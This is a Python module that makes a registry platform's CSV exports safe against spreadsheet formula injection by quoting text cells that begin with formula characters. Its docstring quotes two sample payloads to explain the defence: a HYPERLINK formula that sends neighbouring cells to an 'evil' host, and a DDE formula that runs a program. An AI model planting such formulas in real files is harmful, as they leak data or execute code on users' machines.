"""CSV files the platform writes for people to open in a spreadsheet (the use register, the
registry's units, devices and findings, an import's refused rows): every export writes its
cells through here, so that no cell becomes a formula.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula, and one
that begins with a tab or a carriage return can hide the character that follows: a camera named
``=HYPERLINK("http://evil/?"&A1, "点击")`` would send the cells beside it away when a clerk
clicks it, and ``=cmd|' /C calc'!A0`` runs a program in old spreadsheets. As OWASP advises
("CSV Injection"), each text cell that begins with one of these characters gets a single quote
in front (``'=HYPERLINK(...)``, which a spreadsheet shows as text), and every text cell is
quoted, so that no separator or line break inside it starts another cell.

The decision is made per value type, not by guessing from the text: a number (an ``int`` or a
``float``, a column such as a latitude) is written as the number it is, unquoted, so ``-45.5``
stays a negative number a spreadsheet can sum, and it cannot carry a formula. Everything else
is text: a name, a serial number or a case number that happens to read ``-5`` is written
``'-5``, since a text column can hold anything a client typed. A file written here and imported
back (``jifang-registry import``) keeps the quote: the import takes cells as they are.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
from collections.abc import Iterable, Mapping, Sequence
from enum import Enum
from typing import Any, Protocol

# What a spreadsheet reads as the start of a formula (or uses to hide one), per OWASP.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


class _TextSink(Protocol):
    def write(self, s: str, /) -> object: ...


def neutralise(value: Any) -> str | int | float:
    """One cell: a number as itself, anything else as text that no spreadsheet runs."""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float):
        return value
    text = _text(value)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def _text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, Enum):
        return str(value.value)
    if isinstance(value, dt.date | dt.time):
        return value.isoformat()
    if isinstance(value, Mapping):
        return json.dumps(value, ensure_ascii=False, default=str)
    if isinstance(value, list | tuple | set | frozenset):
        return "; ".join(_text(v) for v in value)
    return str(value)


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through :func:`neutralise`: text quoted, numbers not."""

    def __init__(self, out: _TextSink) -> None:
        self._writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """``csv.DictWriter`` on :class:`SafeCsvWriter`: the header, then each mapping's values in
    the header's order (a missing key is an empty cell)."""

    def __init__(self, out: _TextSink, fieldnames: Sequence[str]) -> None:
        self.fieldnames = list(fieldnames)
        self._writer = SafeCsvWriter(out)

    def writeheader(self) -> None:
        self._writer.writerow(self.fieldnames)

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow(row.get(name) for name in self.fieldnames)

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)
